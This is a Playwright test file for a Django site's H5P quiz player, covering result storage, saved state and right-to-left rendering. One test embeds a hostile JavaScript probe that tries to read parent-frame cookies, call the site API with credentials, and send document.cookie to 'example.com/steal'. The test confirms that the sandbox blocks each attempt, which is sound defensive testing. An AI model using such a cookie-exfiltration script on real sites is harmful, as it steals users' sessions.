"""H5P in Chromium: the activity plays in a sandboxed frame from the other origin."""

import io
import json

import pytest

from quizzes.h5p.ingest import ingest_package
from quizzes.models import H5PResult, H5PUserData
from tests.factories import UserFactory
from tests.quizzes.h5p_packages import fixture_bytes, own_package

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.urls("tests.quizzes.h5p_urls")]


@pytest.fixture
def h5p_site(settings, live_server, home_page, tmp_path):
    port = live_server.url.rsplit(":", 1)[1]
    settings.QUIZZES_H5P_ORIGIN = f"http://localhost:{port}"
    settings.QUIZZES_H5P_FILES_ROOT = tmp_path / "h5p-files"
    return live_server.url


def test_learner_answers_the_true_false_activity_and_the_result_is_stored(
    visit, h5p_site, home_page
):
    package = ingest_package(upload=io.BytesIO(fixture_bytes()), title="صح أم خطأ")
    learner = UserFactory()
    visit.sign_in(h5p_site, learner)
    page = visit.page
    page.goto(f"{h5p_site}/test-h5p/{package.pk}/{home_page.pk}/")
    frame_el = page.locator("iframe.h5p-activity__frame")
    assert frame_el.get_attribute("sandbox") == "allow-scripts"
    assert frame_el.get_attribute("src").startswith(f"{h5p_site.replace('127.0.0.1', 'localhost')}/h5p/p/")
    player = page.frame_locator("iframe.h5p-activity__frame")
    # The question, in the frame from the other origin, right-to-left like the page.
    player.get_by_text("Is this false?").wait_for(timeout=30000)
    assert player.locator("html").get_attribute("dir") == "rtl"
    assert player.locator("body").evaluate("b => getComputedStyle(b).direction") == "rtl"
    visit.screenshot("h5p-true-false-ar")
    player.get_by_text("False", exact=True).click()
    player.get_by_role("button", name="Check").click()
    page.wait_for_function(
        "() => document.querySelector('.h5p-activity__status').textContent.length > 0"
    )
    result = H5PResult.objects.get()
    assert result.user == learner and result.package == package
    assert result.page_id == home_page.pk
    assert result.score == 1 and result.max_score == 1 and result.success is True
    assert result.is_client_reported and result.completes_lesson
    assert "actor" not in json.dumps(result.statement)
    visit.screenshot("h5p-true-false-answered")
    assert visit.foreign_requests("localhost") == []


PROBE = """
var SITE = '__SITE__';
var report = {violations: []};
document.addEventListener('securitypolicyviolation', function (e) {
  report.violations.push(e.violatedDirective + ' ' + e.blockedURI);
});
function attempt(name, fn) {
  try { report[name] = 'allowed: ' + String(fn()).slice(0, 80); }
  catch (e) { report[name] = 'blocked: ' + e.name; }
}
attempt('parentDocument', function () { return parent.document.title; });
attempt('parentCookie', function () { return parent.document.cookie; });
attempt('topLocation', function () { return top.location.href; });
attempt('cookie', function () {
  return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document);
});
attempt('popup', function () {
  var w = window.open(SITE + '/ar/');
  if (!w) { throw {name: 'NoWindow'}; }
  return 'opened';
});
function tryFetch(name, url, options) {
  return fetch(url, options).then(
    function (r) { report[name] = 'allowed: ' + r.status; },
    function (e) { report[name] = 'blocked: ' + e.name; });
}
Promise.all([
  tryFetch('siteApi', SITE + '/h5p/results/', {method: 'POST', credentials: 'include',
    headers: {'Content-Type': 'application/json'}, body: '{"activity": "x"}'}),
  tryFetch('sitePage', SITE + '/ar/', {credentials: 'include'}),
  tryFetch('outside', 'http://example.com/steal?c=' + encodeURIComponent(document.cookie),
           {mode: 'no-cors'}),
  tryFetch('control', location.origin + '/h5p/lib/Basira.Probe-1.0/library.json', {})
]).then(function () {
  var n = 0;
  var timer = setInterval(function () {
    parent.postMessage({source: 'basira-probe', report: report}, '*');
    if (++n > 40) { clearInterval(timer); }
  }, 250);
});
"""


def test_a_hostile_package_cannot_reach_the_site_its_cookies_or_the_network(
    visit, h5p_site, home_page
):
    script = PROBE.replace("__SITE__", h5p_site)
    package = ingest_package(upload=io.BytesIO(own_package(script)), title="مسبار")
    learner = UserFactory()
    visit.sign_in(h5p_site, learner)
    page = visit.page
    page.goto(f"{h5p_site}/test-h5p/{package.pk}/{home_page.pk}/", wait_until="commit")
    page.evaluate("""() => { window.__probe = null; window.addEventListener('message', e => {
        if (e.data && e.data.source === 'basira-probe') { window.__probe = e.data.report; } }); }""")
    page.wait_for_function("() => window.__probe !== null", timeout=30000)
    report = page.evaluate("() => window.__probe")
    visit.screenshot("h5p-hostile-probe")
    assert report["control"] == "allowed: 200", report  # the probe itself did run
    assert report["parentDocument"] == "blocked: SecurityError", report
    assert report["parentCookie"] == "blocked: SecurityError", report
    assert report["topLocation"] == "blocked: SecurityError", report
    assert report["cookie"] == "blocked: SecurityError", report
    assert report["popup"] == "blocked: NoWindow", report
    assert report["siteApi"] == "blocked: TypeError", report
    assert report["sitePage"] == "blocked: TypeError", report
    assert report["outside"] == "blocked: TypeError", report
    violations = " ".join(report["violations"])
    assert f"connect-src {h5p_site}/h5p/results/" in violations, violations
    assert "connect-src http://example.com/steal" in violations, violations
    # None of those requests left the browser.
    assert not [url for url in visit.requests if "/h5p/results/" in url or "example.com" in url]
    assert not H5PResult.objects.exists()


def test_the_learners_place_is_saved_and_restored(visit, h5p_site, home_page, settings):
    settings.QUIZZES_H5P_SAVE_FREQ = 1
    package = ingest_package(upload=io.BytesIO(fixture_bytes()), title="صح أم خطأ")
    learner = UserFactory()
    visit.sign_in(h5p_site, learner)
    page = visit.page
    url = f"{h5p_site}/test-h5p/{package.pk}/{home_page.pk}/"
    page.goto(url)
    player = page.frame_locator("iframe.h5p-activity__frame")
    player.get_by_text("False", exact=True).click(timeout=30000)
    for _ in range(40):
        state = H5PUserData.objects.filter(user=learner, package=package).first()
        if state is not None:
            break
        page.wait_for_timeout(250)
    assert state is not None and json.loads(state.data) == {"answer": False}
    page.reload()
    player = page.frame_locator("iframe.h5p-activity__frame")
    chosen = player.locator('[role="radio"][aria-checked="true"]')
    chosen.wait_for(timeout=30000)
    assert chosen.inner_text().strip() == "False"
